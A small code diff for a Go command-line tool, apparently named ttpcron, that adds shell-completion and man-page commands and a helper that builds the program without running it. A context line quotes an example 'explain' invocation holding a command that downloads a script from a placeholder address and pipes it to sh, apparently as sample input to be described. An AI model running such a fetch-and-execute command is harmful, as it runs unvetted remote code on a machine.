@@ -77,6 +77,8 @@ ttpcron explain "wget http://203.0.113.9/x.sh -O- | sh"`,
 			),
 			cli.Under("setup",
 				configCommands(),
+				completionCommand(),
+				manCommand(),
 				versionCommand(),
 			),
 		),
@@ -136,6 +138,9 @@ func (p *invocation) commands(root *command) *cli.Program[*session] {
 		Exits:      exitTexts, Done: exitDone, Usage: exitUsage,
 	}
 }
+
+// programOf is a program that is looked at and not run.
+func programOf(root *command) *cli.Program[*session] { return (&invocation{}).commands(root) }
 
 // open reads the settings of a command that is about to run.
 func (p *invocation) open(c *command) (*session, error) {
